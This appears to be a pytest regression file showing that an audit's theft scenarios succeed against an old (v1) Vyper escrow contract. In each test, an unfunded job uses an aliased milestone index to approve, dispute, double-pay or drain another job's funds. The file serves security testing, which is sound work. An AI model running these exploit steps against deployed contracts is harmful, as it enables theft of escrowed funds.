"""The audit's theft on the v1 escrow (commit 9446412), shown to SUCCEED there.

These tests assert that the old code IS vulnerable: they prove that the scenarios can see the
theft. The same scenarios against v2 (tests/model/test_regression.py) must fail with the spec's
reasons. The v1 sources are taken from git into a temporary directory (never from the work
tree); only v1's ABI (docs/contracts.md) was used to write the calls.
"""

from __future__ import annotations

import subprocess
import tarfile
import tempfile
from io import BytesIO
from pathlib import Path

import boa
import pytest
from eth_account import Account

from . import chain

V1_COMMIT = "9446412"
DAY = 86_400
ETH = "0x" + "00" * 20
UNIT = 10**6

pytestmark = pytest.mark.filterwarnings("ignore")


@pytest.fixture(scope="module")
def v1_dir():
    out = subprocess.run(
        ["git", "-C", str(chain.ROOT), "archive", V1_COMMIT, "contracts"], check=True, capture_output=True
    ).stdout
    d = tempfile.mkdtemp(prefix="jiedan-v1-")
    with tarfile.open(fileobj=BytesIO(out)) as tar:
        tar.extractall(d, filter="data")
    return Path(d) / "contracts"


@pytest.fixture
def v1(v1_dir):
    with boa.env.anchor():
        owner, fee_to = (Account.create(f"v1-{n}").address for n in ("owner", "fees"))
        rep = chain.deploy(v1_dir / "Reputation.vy", sender=owner)
        escrow = chain.deploy(v1_dir / "Escrow.vy", rep.address, 100, fee_to, sender=owner)
        rep.register_escrow(escrow.address, sender=owner)
        token = chain.deploy(v1_dir / "tokens" / "TestToken.vy", "Jiedan USD", "jUSD", 6, sender=owner)
        yield _V1(escrow, token, owner)


class _V1:
    def __init__(self, escrow, token, owner):
        self.escrow, self.token, self.owner = escrow, token, owner
        names = ("victim_client", "victim_freelancer", "victim_arbiter", "thief", "thief2", "thief_arbiter")
        for n in names:
            a = Account.create(f"v1-{n}")
            setattr(self, n, a.address)
            setattr(self, n + "_key", a.key)
            boa.env.set_balance(a.address, 10**24)
        token.mint(self.victim_client, 10**30, sender=owner)
        token.approve(escrow.address, 2**256 - 1, sender=self.victim_client)

    def terms(self, arbiter, amounts, deadline_days=30):
        now = boa.env.timestamp
        return (arbiter, 500, 100, 3 * DAY, 7 * DAY, [(a, now + deadline_days * DAY) for a in amounts])

    def thief_job(self, token=ETH):
        """Job 1: the thief is its client, a second thief address its freelancer; nothing funded."""
        terms = self.terms(self.thief_arbiter, [1])
        jid = self.escrow.create_job(self.thief2, token, terms, b"\x00" * 32, 0, sender=self.thief)
        return jid, terms

    def victim_job(self, token, amounts, value=0):
        terms = self.terms(self.victim_arbiter, amounts)
        jid = self.escrow.create_job(
            self.victim_freelancer, token, terms, b"\x11" * 32, len(amounts), sender=self.victim_client, value=value
        )
        return jid, terms

    def balance(self, token, who):
        return boa.env.get_balance(who) if token == ETH else self.token.balanceOf(who)


def test_v1__unfunded_job_approves_another_jobs_milestone_through_aliased_index__is_vulnerable(v1):
    thief_job, _ = v1.thief_job(token=v1.token.address)
    filler, _ = v1.victim_job(v1.token.address, [5 * UNIT])  # job 2
    victim, vterms = v1.victim_job(v1.token.address, [1_000 * UNIT])  # job 3 = 1 | 2
    assert (thief_job, filler, victim) == (1, 2, 3)
    v1.escrow.submit(victim, 0, b"\x22" * 32, vterms, sender=v1.victim_freelancer)
    before = v1.token.balanceOf(v1.thief2)
    # (1 << 8) | (3 << 8) == 3 << 8: job 1's "milestone 768" is job 3's milestone 0
    v1.escrow.approve(thief_job, 3 << 8, sender=v1.thief)
    stolen = v1.token.balanceOf(v1.thief2) - before
    assert stolen == 990 * UNIT  # the victim's milestone, less the 1% fee, went to the thief
    # the two victim jobs are still owed 1,005 units and the escrow holds 15
    assert v1.token.balanceOf(v1.escrow.address) == 15 * UNIT


def test_v1__unfunded_job_disputes_and_rules_on_another_jobs_milestone__is_vulnerable(v1):
    thief_job, tterms = v1.thief_job(token=v1.token.address)
    v1.victim_job(v1.token.address, [5 * UNIT])
    victim, vterms = v1.victim_job(v1.token.address, [1_000 * UNIT])
    v1.escrow.submit(victim, 0, b"\x22" * 32, vterms, sender=v1.victim_freelancer)
    before = v1.token.balanceOf(v1.thief2) + v1.token.balanceOf(v1.thief_arbiter)
    v1.escrow.dispute(thief_job, 3 << 8, sender=v1.thief)
    try:
        v1.escrow.resolve(thief_job, 3 << 8, 10_000, tterms, sender=v1.thief_arbiter)
    except boa.BoaError:
        # resolve takes the terms; the default ruling after the window takes none
        boa.env.time_travel(seconds=8 * DAY)
        v1.escrow.apply_default_ruling(thief_job, 3 << 8, sender=v1.thief)
    stolen = v1.token.balanceOf(v1.thief2) + v1.token.balanceOf(v1.thief_arbiter) - before
    assert stolen > 400 * UNIT


def test_v1__settled_job_paid_twice__is_vulnerable(v1):
    thief_job, _ = v1.thief_job(token=v1.token.address)  # job 1
    v1.victim_job(v1.token.address, [5_000 * UNIT])  # job 2: someone else's money in the pool
    job, terms = v1.victim_job(v1.token.address, [1_000 * UNIT])  # job 3
    v1.escrow.submit(job, 0, b"\x22" * 32, terms, sender=v1.victim_freelancer)
    nonce = v1.escrow.get_job(job)[8]
    digest = v1.escrow.settlement_digest(job, 10_000, nonce)
    sigs = [Account._sign_hash(digest, k).signature for k in (v1.victim_client_key, v1.victim_freelancer_key)]
    v1.escrow.settle(job, 10_000, terms, sigs[0], sigs[1], sender=v1.victim_client)
    assert v1.token.balanceOf(v1.victim_freelancer) == 990 * UNIT  # paid once, by the settlement
    # the settled milestone's word still says SUBMITTED: job 1 approves it through the alias
    v1.escrow.approve(thief_job, job << 8, sender=v1.thief)
    assert v1.token.balanceOf(v1.thief2) == 990 * UNIT  # paid a second time, out of job 2's money
    # job 2 is still owed 5,000 and 20 of fees accrued; the escrow holds 6,000 - 2 x 990
    assert v1.token.balanceOf(v1.escrow.address) == 4_020 * UNIT


def test_v1__eth_job_drains_eth_for_a_token_milestone__is_vulnerable(v1):
    thief_job, _ = v1.thief_job(token=ETH)  # job 1 pays in ETH
    eth_pool, _ = v1.victim_job(ETH, [50 * 10**18], value=50 * 10**18)  # job 2 holds 50 ETH
    victim, vterms = v1.victim_job(v1.token.address, [40 * 10**18])  # job 3: a token milestone
    assert (thief_job, eth_pool, victim) == (1, 2, 3)
    v1.escrow.submit(victim, 0, b"\x22" * 32, vterms, sender=v1.victim_freelancer)
    before = boa.env.get_balance(v1.thief2)
    v1.escrow.approve(thief_job, 3 << 8, sender=v1.thief)
    assert boa.env.get_balance(v1.thief2) - before == 40 * 10**18 * 99 // 100  # paid in ETH of job 2
    assert boa.env.get_balance(v1.escrow.address) == 50 * 10**18 - 40 * 10**18 * 99 // 100  # job 2 robbed
